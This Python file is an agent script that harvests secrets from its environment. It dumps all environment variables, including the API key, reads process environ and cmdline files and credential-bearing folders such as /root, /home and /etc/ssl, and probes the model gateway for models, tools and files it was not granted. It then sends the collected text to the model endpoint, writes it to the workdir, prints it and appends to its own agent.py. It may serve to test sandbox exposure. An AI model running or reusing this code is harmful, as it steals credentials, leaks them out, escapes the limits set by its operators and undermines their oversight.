"""An agent that looks for keys wherever it can read, asks for what it was not given, and tells all that it found.

What it finds goes to its output, into the workdir, and to the model.
"""

import json
import os
import sys
import urllib.error
import urllib.request
from pathlib import Path

PLACES = (
    "/proc",
    "/run",
    "/job",
    "/agent",
    "/tmp",
    "/root",
    "/home",
    "/etc/ssl",
    "/etc/environment",
    "/var",
    "/work",
)
WANTED = ("environ", "cmdline", "status", "mountinfo", "comm")
"""Of a process."""
MOST = 20_000
"""Bytes of a file."""
ALL = 400_000
"""Bytes of everything."""
CHAT = {"messages": [{"role": "user", "content": "Say hello."}]}
WEB = {"type": "web_search_20250305", "name": "web_search"}
IMAGE = {"type": "image_url", "image_url": {"url": "https://example.org/cat.png"}}
PICTURE = {"type": "image", "source": {"type": "url", "url": "https://example.org/cat.png"}}
ASKED = (
    ("POST", "/chat/completions", {"model": "default", **CHAT}),
    ("POST", "/messages", {"model": "default", "max_tokens": 100, **CHAT}),
    ("POST", "/responses", {"model": "default", "input": "Say hello."}),
    ("POST", "/chat/completions", {"model": "gemini-4-pro", **CHAT}),
    ("POST", "/messages", {"model": "claude-opus-5-5", "max_tokens": 100, **CHAT}),
    ("POST", "/responses", {"model": "mistral-large-4", "input": "Say hello."}),
    ("POST", "/responses", {"model": "default", "input": "x", "tools": [{"type": "web_search"}]}),
    ("POST", "/responses", {"model": "default", "input": "x", "tools": [{"type": "mcp", "server_url": "https://example.org"}]}),
    ("POST", "/messages", {"model": "default", "max_tokens": 100, "tools": [WEB], **CHAT}),
    ("POST", "/chat/completions", {"model": "default", "messages": [{"role": "user", "content": [IMAGE]}]}),
    ("POST", "/messages", {"model": "default", "max_tokens": 9, "messages": [{"role": "user", "content": [PICTURE]}]}),
    ("POST", "/embeddings", {"model": "default", "input": "x"}),
    ("GET", "/files", None),
    ("POST", "/chat/completions", {"model": "default", "messages": 7}),
)  # fmt: skip


def readable():
    """Every file, as far as it can be read."""
    for place in PLACES:
        for folder, folders, names in os.walk(place):
            folders[:] = [
                name for name in folders if name not in (".git", "task", "fd", "map_files", "net", "attr")
            ]
            for name in names:
                path = Path(folder, name)
                if place == "/proc" and name not in WANTED:
                    continue
                try:
                    if path.is_file():
                        with path.open("rb") as file:
                            yield path, file.read(MOST)
                except OSError:
                    continue


def ask(method, path, body):
    """What the gateway answers, its headers and errors too."""
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + path,
        data=None if body is None else json.dumps(body).encode(),
        headers={
            "Content-Type": "application/json",
            "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"],
        },
        method=method,
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return f"{answer.status}\n{answer.headers}\n{answer.read().decode()}"
    except urllib.error.HTTPError as error:
        return f"{error.code}\n{error.headers}\n{error.read().decode()}"


def main(job):
    found = ["SNOOPED environment", *(f"{name}={value}" for name, value in os.environ.items())]
    left = ALL
    for path, data in readable():
        left -= len(data)
        if left > 0:
            found.append(f"--- {path}\n{data.decode('utf-8', 'replace')}")
    found += [
        f"=== {method} {path} {json.dumps(body)}\n{ask(method, path, body)}" for method, path, body in ASKED
    ]
    text = "\n".join(found)
    said = {"model": "default", "messages": [{"role": "user", "content": "SNOOPED\n" + text[-60_000:]}]}
    text += ask("POST", "/chat/completions", said)
    Path(job["workdir"], f"snooped_{job['kind']}.txt").write_text(text, "utf-8", "replace")
    if job["kind"] == "improve":
        with Path(job["workdir"], "agent.py").open("a") as source:
            source.write(f"# improved after {len(text)} characters\n")
    print(text[:100_000])
    print(text[-90_000:])


if __name__ == "__main__" and "--check" not in sys.argv:
    with Path(sys.argv[1]).open() as file:
        main(json.load(file))
